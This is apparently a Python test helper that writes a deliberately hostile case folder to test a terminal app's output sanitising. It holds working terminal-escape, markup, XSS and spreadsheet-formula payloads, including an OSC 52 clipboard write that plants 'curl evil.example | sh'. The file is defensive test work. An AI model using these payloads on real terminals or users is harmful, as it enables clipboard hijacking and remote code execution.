"""A case folder written by someone hostile: escape sequences in every text field.

Used by the injection tests of every output format and by the tmux test that logs what
the app writes to the terminal. Each field carries `PAYLOAD`, whose parts are the
attacks seen in the wild: an OSC 52 clipboard write, a screen clear, an OSC 8 link, a
window title, an 8-bit CSI, a bidi override, Textual markup with a link and an action,
and Markdown/HTML that would add a heading, table rows and script.
"""

from __future__ import annotations

import base64
import re
import shutil
from pathlib import Path

import tomli_w

from zntui.cli import main

MARK = "HOSTILE"
CLIPBOARD = base64.b64encode(b"curl evil.example | sh").decode()
OSC52 = f"\x1b]52;c;{CLIPBOARD}\x07"
CLEAR = "\x1b[2J"
OSC8 = "\x1b]8;;https://evil.example/\x1b\\klik\x1b]8;;\x1b\\"
TITLE = "\x1b]0;pwned\x07"
CSI8 = "\x9b2J"
BIDI = "\u202e"
MARKUP = "[link=https://evil.example]m[/link][@click=app.quit]q[/]"
MARKDOWN = "\n# kop\n| x | y |\n<script>alert(1)</script><img src=x onerror=alert(2)>"
PAYLOAD = f"{MARK}{OSC52}{CLEAR}{OSC8}{TITLE}{CSI8}{BIDI}{MARKUP}{MARKDOWN}|\r{MARK}"
FORMULA = '=HYPERLINK("https://evil.example")'

# What may never appear in any output meant for a terminal: the raw control bytes.
RAW = ("\x1b", "\x07", "\x9b", "\u202e", "\r")
# What may never come out of the terminal log of the app: data-driven sequences.
TERMINAL_ATTACKS = (
    OSC52.encode(),
    f"]52;c;{CLIPBOARD}".encode(),
    b"]8;;https://evil.example",
    b"]0;pwned",
    "\x9b2J".encode(),
)


def _case(sample: Path) -> dict:
    import tomllib

    data = tomllib.loads(sample.read_text(encoding="utf-8"))
    data["region"] = FORMULA + PAYLOAD
    data["municipality"] = PAYLOAD
    data["client"]["pseudonym"] = PAYLOAD
    data["client"]["living_situation"] = PAYLOAD
    data["client"]["care_needs"] = [PAYLOAD]
    for member in data["members"]:
        member["role"] = f"{member['role']} {PAYLOAD}"
        member["organisation"] = f"{FORMULA}{PAYLOAD}"
        member["name"] = PAYLOAD
    for event in data.get("events", []):
        event["description"] = PAYLOAD
    return data


def write_hostile_folder(folder: Path, samples: Path) -> Path:
    """A folder with one hostile case (its file name too), a review with a hostile note
    and judgement reason, regional notes with a hostile agreement, and one invalid file
    whose unknown key and file name are hostile. Returns the case file."""
    import datetime as dt

    from zntui.levels import REGIONAL_PARTIES

    folder.mkdir(parents=True, exist_ok=True)
    case = _case(samples / "twente" / "rita-jansen.toml")
    case_file = folder / f"casus-{OSC52}{CLEAR}.toml"
    case_file.write_text(tomli_w.dumps(case), encoding="utf-8")
    case_file.chmod(0o600)
    broken = folder / f"kapot-{TITLE}.toml"
    text = (samples / "utrecht" / "jannie-de-graaf.toml").read_text(encoding="utf-8")
    key = tomli_w.dumps({PAYLOAD.replace("\n", " "): 1}).strip()
    text = re.sub(r"(?m)^id = .*$", 'id = "ZN-BROKEN-1"', text, count=1)
    broken.write_text(text + "\n" + key + "\n", encoding="utf-8")
    followup = {
        "region": case["region"],
        "party": REGIONAL_PARTIES[0],
        "agreement": PAYLOAD,
        "by": PAYLOAD,
        "at": dt.datetime(2026, 3, 1, 12, 0, tzinfo=dt.UTC),
    }
    notes = {"format": 1, "followups": [followup]}
    (folder / "regional-notes.zntui.toml").write_text(tomli_w.dumps(notes), encoding="utf-8")
    return case_file


def review_hostile(case_file: Path) -> list[str]:
    """Record a hostile note and judgement reason through the CLI; returns what the two
    commands printed (their confirmations)."""
    import contextlib
    import io

    printed = []
    for argv in (
        ["note", str(case_file), PAYLOAD],
        ["judge", str(case_file), "ZN.IZ.2", "VG", "--reason", PAYLOAD],
    ):
        out, err = io.StringIO(), io.StringIO()
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            code = main(argv)
        assert code == 0, err.getvalue()
        printed += [out.getvalue(), err.getvalue()]
    return printed


def assert_no_raw_controls(text: str, where: str) -> None:
    for raw in RAW:
        assert raw not in text, f"{where}: raw {raw!r} in output"


if __name__ == "__main__":  # python tests/hostile.py DIR: a folder to try by hand
    import sys

    target = Path(sys.argv[1])
    shutil.rmtree(target, ignore_errors=True)
    made = write_hostile_folder(target, Path(__file__).resolve().parent.parent / "sample_cases")
    review_hostile(made)
    print(target)
